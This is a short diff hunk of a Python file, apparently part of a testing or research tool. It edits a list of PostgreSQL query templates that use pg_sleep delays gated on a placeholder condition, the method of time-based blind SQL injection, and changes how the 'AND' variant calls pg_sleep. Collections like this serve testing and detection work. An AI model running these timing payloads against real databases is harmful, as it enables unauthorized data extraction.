@@ -16,7 +16,7 @@ ORACLE = Oracle(
             ("CASE", f"SELECT CASE WHEN <cond> THEN pg_sleep({_NAP}) END {OF}"),
             ("argument", f"SELECT pg_sleep(CASE WHEN <cond> THEN {_NAP} ELSE 0 END) {OF}"),
             ("WHERE", f"SELECT pg_sleep({_NAP}) {OF} AND <cond>"),
-            ("AND", f"SELECT 1 {OF} AND <cond> AND pg_sleep({_NAP}) IS NOT NULL"),
+            ("AND", f"SELECT 1 {OF} AND <cond> AND pg_sleep({_NAP} + c.id * 0) IS NOT NULL"),
             ("FROM", f"SELECT 1 FROM customers c, LATERAL pg_sleep(CASE WHEN <cond> THEN {_NAP} ELSE 0 END) WHERE c.id = <row>"),
             ("pg_sleep_for", f"SELECT pg_sleep_for(CASE WHEN <cond> THEN interval '40 ms' ELSE interval '0' END) {OF}"),
             conditions=(SPLITS["range"], SPLITS["regex"]),
